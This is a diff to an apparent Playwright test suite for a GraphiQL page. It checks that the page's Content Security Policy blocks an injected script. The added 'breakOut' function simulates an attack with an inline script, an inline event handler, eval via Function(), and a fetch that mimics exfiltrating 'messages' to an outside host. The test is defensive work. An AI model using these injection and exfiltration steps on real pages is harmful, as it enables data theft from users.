@@ -42,6 +42,11 @@ async function openPage(browser, answerCdn) {
   const problems = [];
   page.on("console", (message) => message.type() === "error" && problems.push(`console: ${message.text()}`));
   page.on("pageerror", (error) => problems.push(`uncaught: ${error.message}`));
+  await page.exposeFunction("reportViolation", (violation) => problems.push(`against the page's policy: ${violation}`));
+  await page.addInitScript(() => {
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sourceFile }) =>
+      window.reportViolation(`${effectiveDirective} ${blockedURI} from ${sourceFile}`));
+  });
   await context.route("**/*", async (route) => {
     const requested = new URL(route.request().url());
     if (requested.origin === origin) return route.continue();
@@ -61,6 +66,62 @@ async function checkIntegrityAttributes(page) {
       .map((element) => element.outerHTML),
   );
   assert.deepEqual(unchecked, []);
+}
+
+// Whatever adds elements or styles while one works with the page.
+async function lookAround(page) {
+  await page.getByRole("button", { name: "Show Documentation Explorer" }).click();
+  await page.getByText("Root Types").waitFor();
+  await page.getByRole("button", { name: "Hide Documentation Explorer" }).click();
+  await page.getByRole("button", { name: "Show History" }).click();
+  await page.getByRole("button", { name: "Hide History" }).click();
+  for (const dialog of ["Open short keys dialog", "Open settings dialog"]) {
+    await page.getByRole("button", { name: dialog }).click();
+    await page.getByRole("dialog").waitFor();
+    await page.keyboard.press("Escape");
+    await page.getByRole("dialog").waitFor({ state: "detached" });
+  }
+  await page.getByRole("button", { name: "Prettify query (Shift-Ctrl-P)" }).click();
+  const editor = page.getByRole("region", { name: "Query Editor" }).locator(".CodeMirror");
+  await editor.click();
+  await page.keyboard.press("Control+End");
+  await page.keyboard.type(" query Typed { us");
+  await page.keyboard.press("Control+Space");
+  await page.locator(".CodeMirror-hints").first().waitFor();
+  await page.keyboard.press("Escape");
+}
+
+// What a script that got into the page would try.
+async function breakOut() {
+  const script = document.createElement("script");
+  script.textContent = "window.ranInline = true";
+  document.body.append(script);
+  const link = document.createElement("a");
+  link.setAttribute("onclick", "window.ranHandler = true");
+  link.click();
+  // Later, because what a debugger itself runs may evaluate.
+  const evaluated = await new Promise((resolve) => setTimeout(() => {
+    try {
+      resolve(Function("return true")());
+    } catch {
+      resolve(false);
+    }
+  }));
+  const heard = new Promise((resolve) => {
+    document.addEventListener("securitypolicyviolation", (event) => event.effectiveDirective === "connect-src" && resolve());
+  });
+  const sent = await fetch("https://unpkg.com/steal?what=messages").then(() => true, () => false);
+  await heard;
+  return [window.ranInline, window.ranHandler, evaluated, sent].some(Boolean);
+}
+
+async function checkPolicy(browser) {
+  const { page, problems } = await openPage(browser, answerFromNodeModules);
+  await page.locator(".graphiql-tab-button").first().waitFor();
+  assert.deepEqual(problems, []);
+  assert.equal(await page.evaluate(breakOut), false);
+  const stopped = (directive) => problems.some((problem) => problem.startsWith(`against the page's policy: ${directive}`));
+  for (const directive of ["script-src-elem", "script-src-attr", "connect-src"]) assert.ok(stopped(directive), directive);
 }
 
 async function runOperation(page) {
@@ -112,8 +173,12 @@ async function checkGraphiQL(browser) {
   console.log("ok  Live shows what a subscription answers, until it is stopped");
 
   await page.screenshot({ path: screenshot });
+  await lookAround(page);
   assert.deepEqual(problems, []);
-  console.log("ok  no console error and no request to another host");
+  console.log("ok  no console error, nothing against the page's policy, and no request to another host");
+
+  await checkPolicy(browser);
+  console.log("ok  a script that gets into the page neither runs nor sends anything away");
 }
 
 async function checkFallback(browser) {
